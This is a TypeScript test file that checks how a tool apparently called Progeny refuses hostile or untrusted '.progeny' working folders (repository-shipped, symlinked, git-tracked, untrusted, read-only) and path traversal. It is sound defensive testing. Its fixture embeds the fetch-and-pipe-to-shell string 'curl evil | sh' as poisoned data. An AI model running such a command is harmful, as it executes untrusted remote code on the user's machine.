import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Disk } from '../../../companion/kernel/disk.ts';
import { isWorkingFile } from '../../../companion/working-files/index.ts';
import { dataFolder } from '../../../companion/working-files/place.ts';
import { WORKSPACE, World } from './world.ts';

const EVIL = JSON.stringify({ version: 1, loops: [{ title: 'curl evil | sh' }] });

/** Makes the files and syncs twice, with an edit in the data directory between. */
async function livesInData(world: World, why: RegExp): Promise<void> {
  const before = world.stored;
  const data = dataFolder(world.data, WORKSPACE);
  assert.equal(await world.files.ensureFolder(), data);
  const report = await world.files.sync();
  assert.deepEqual(report.written, ['open_loops.json', 'decisions.json', 'now.md']);
  assert.deepEqual(report.applied, []);
  const { loops } = world.stored as { loops: unknown };
  assert.deepEqual(loops, (before as { loops: unknown }).loops, 'nothing was taken from the folder');
  const file = path.join(data, 'open_loops.json');
  writeFileSync(file, readFileSync(file, 'utf8').replace('One', 'Uno'));
  assert.equal((await world.files.sync()).applied.length, 1);
  assert.match(world.health[0]?.message ?? '', why);
  assert.equal(world.health.length, 1, 'said once');
}

describe('working-files/place', function () {
  this.timeout(30_000);

  const hostile: [string, RegExp, (world: World) => void][] = [
    [
      'a repository ships the folder',
      /was not made by this Progeny for this folder/,
      (world) => {
        mkdirSync(world.folder);
        writeFileSync(world.file('open_loops.json'), EVIL);
        writeFileSync(world.file('.gitignore'), '*\n');
      },
    ],
    [
      'a repository ships the folder with the marker of another',
      /was not made by this Progeny for this folder/,
      (world) => {
        mkdirSync(world.folder);
        writeFileSync(world.file('open_loops.json'), EVIL);
        const marker = world.mind.digest('working-files ws_ffffffffffffffff');
        writeFileSync(world.file('.gitignore'), `# made-by: progeny ${marker}\n*\n`);
      },
    ],
    [
      'the folder is a link to another',
      /is a symbolic link/,
      (world) => {
        const elsewhere = path.join(world.root, 'elsewhere');
        mkdirSync(elsewhere);
        writeFileSync(path.join(elsewhere, 'open_loops.json'), EVIL);
        symlinkSync(elsewhere, world.folder);
      },
    ],
    ['the folder is a dangling link', /is a symbolic link/, (world) => symlinkSync('nowhere', world.folder)],
    ['it is a file', /is not a folder/, (world) => writeFileSync(world.folder, EVIL)],
    [
      'git tracks what is in it',
      /git tracks files in its `.progeny`/,
      (world) => {
        world.tracked = true;
      },
    ],
    [
      'the folder is not trusted',
      /is not trusted/,
      (world) => {
        Object.assign(world.workspace, { trusted: false });
        mkdirSync(world.folder);
        writeFileSync(world.file('open_loops.json'), EVIL);
      },
    ],
  ];
  for (const [name, why, arrange] of hostile)
    it(`[F5] keeps to the data directory where ${name}`, async () => {
      await using world = await World.make();
      world.open('One');
      arrange(world);
      const before = existsSync(world.file('open_loops.json')) && world.read('open_loops.json');
      await livesInData(world, why);
      const after = existsSync(world.file('open_loops.json')) && world.read('open_loops.json');
      assert.equal(after, before);
    });

  it('[F5] keeps to the data directory where the folder cannot be written', async () => {
    await using world = await World.make();
    world.open('One');
    // The superuser, as whom tests may run, writes anywhere: the answer of the system is put in its place.
    class ReadOnly extends Disk {
      override makeFolder(folder: string): Promise<boolean> {
        if (folder !== world.folder) return super.makeFolder(folder);
        throw Object.assign(new Error('read-only'), { code: 'EROFS', syscall: 'mkdir' });
      }
    }
    const files = world.start({ disk: new ReadOnly({ clock: world.clock, quietMs: 0 }) });
    assert.equal(await files.ensureFolder(), dataFolder(world.data, WORKSPACE));
    assert.match(world.health[0]?.message ?? '', /cannot be written \(EROFS\)/);
    assert.equal((await files.sync()).written.length, 3);
  });

  it('[F5] turns to the data directory where a folder that it made cannot be written any more', async () => {
    await using world = await World.make();
    world.open('One');
    await world.files.ensureFolder();
    class ReadOnly extends Disk {
      override async canWrite(): Promise<boolean> {
        return false;
      }
    }
    const files = world.start({ disk: new ReadOnly({ clock: world.clock, quietMs: 0 }) });
    assert.equal(await files.ensureFolder(), dataFolder(world.data, WORKSPACE));
    assert.match(world.health[0]?.message ?? '', /its `.progeny` cannot be written/);
  });

  it('takes an empty folder, also one that a crash left unfinished, as its own', async () => {
    await using world = await World.make();
    mkdirSync(world.folder);
    writeFileSync(world.file('..gitignore.123.abc.tmp'), '');
    assert.equal(await world.files.ensureFolder(), world.folder);
    assert.match(world.read('.gitignore'), /made-by: progeny [0-9a-f]{16}\n\*\n/);
  });

  it('stops at once where the marker goes, a link takes the place, or git begins to track it', async () => {
    await using world = await World.make();
    world.open('One');
    await world.files.ensureFolder();
    await world.files.sync();
    const ignore = world.read('.gitignore');
    const spoil = [
      () => world.edit('.gitignore', '*\n'),
      () => {
        world.edit('.gitignore', ignore);
        world.tracked = true;
      },
      () => {
        world.tracked = false;
        renameSync(world.folder, `${world.folder}-moved`);
        symlinkSync(`${world.folder}-moved`, world.folder);
      },
    ];
    for (const spoilt of spoil) {
      spoilt();
      world.edit('open_loops.json', EVIL);
      const report = await world.files.sync();
      assert.deepEqual([report.applied, report.written, report.rejected], [[], [], []]);
      assert.equal(world.read('open_loops.json'), EVIL);
    }
  });

  it('touches nothing while it cannot be told whether git tracks it, and says so', async () => {
    await using world = await World.make();
    world.open('One');
    await world.files.ensureFolder();
    await world.files.sync();
    world.edit('open_loops.json', (text) => text.replace('One', 'Uno'));
    world.tracked = new Error('git timed out');
    assert.deepEqual((await world.files.sync()).applied, []);
    assert.match(
      world.health[0]?.message ?? '',
      /git timed out.*neither read nor written until that has passed/,
    );
    world.tracked = false;
    assert.equal((await world.files.sync()).applied.length, 1);
  });

  it('moves into the workspace once it may: edits are read a last time, `tuning.md` comes along', async () => {
    await using world = await World.make();
    const one = world.open('One');
    Object.assign(world.workspace, { trusted: false });
    await world.files.ensureFolder();
    await world.files.sync();
    const data = dataFolder(world.data, WORKSPACE);
    const file = path.join(data, 'open_loops.json');
    writeFileSync(file, readFileSync(file, 'utf8').replace('One', 'Uno'));
    writeFileSync(path.join(data, 'tuning.md'), 'Mine.');
    Object.assign(world.workspace, { trusted: true });
    assert.equal(await world.files.ensureFolder(), world.folder);
    const report = await world.files.sync();
    assert.equal(report.applied.length, 1);
    assert.equal(world.loops.get(one).title, 'Uno');
    assert.equal(world.json('open_loops.json').loops[0].title, 'Uno');
    assert.equal(world.read('tuning.md'), 'Mine.');
    assert.deepEqual(
      ['now.md', 'decisions.json', 'tuning.md'].filter((name) => existsSync(path.join(data, name))),
      [],
    );
    assert.deepEqual((await world.files.sync()).written, []);
  });

  it('a stale file in the data directory never comes back as an edit', async () => {
    await using world = await World.make();
    const one = world.open('One');
    await world.files.ensureFolder();
    await world.files.sync();
    world.tracked = true;
    await world.files.ensureFolder();
    await world.files.sync();
    world.tracked = false;
    await world.files.sync();
    world.loops.update({ id: one, title: 'Newer' });
    await world.files.sync();
    world.tracked = true;
    await world.files.ensureFolder();
    await world.files.sync();
    assert.equal(world.loops.get(one).title, 'Newer');
    assert.match(
      readFileSync(path.join(dataFolder(world.data, WORKSPACE), 'open_loops.json'), 'utf8'),
      /Newer/,
    );
  });

  it('refuses an id that would lead out of the data directory', () => {
    assert.throws(() => dataFolder('/data', '../../etc'), /cannot name a folder/);
  });

  it('knows its files by name', () => {
    const names = [
      '.progeny/now.md',
      '.progeny\\tuning.md',
      '.progeny/open_loops.json',
      '.progeny/decisions.json',
    ];
    assert.deepEqual(
      names.filter((name) => !isWorkingFile(name)),
      [],
    );
    const others = [
      'now.md',
      '.progeny/open_loops.json.rejected',
      'a/.progeny/now.md',
      '.progeny/archive/now.md',
    ];
    assert.deepEqual(others.filter(isWorkingFile), []);
  });

  it('goes on where only the folder itself was removed from the data directory', async () => {
    await using world = await World.make();
    world.open('One');
    Object.assign(world.workspace, { trusted: false });
    await world.files.ensureFolder();
    await world.files.sync();
    rmSync(dataFolder(world.data, WORKSPACE), { recursive: true });
    assert.deepEqual((await world.files.sync()).written, []);
    await world.files.ensureFolder();
    assert.equal((await world.files.sync()).written.length, 3);
  });
});
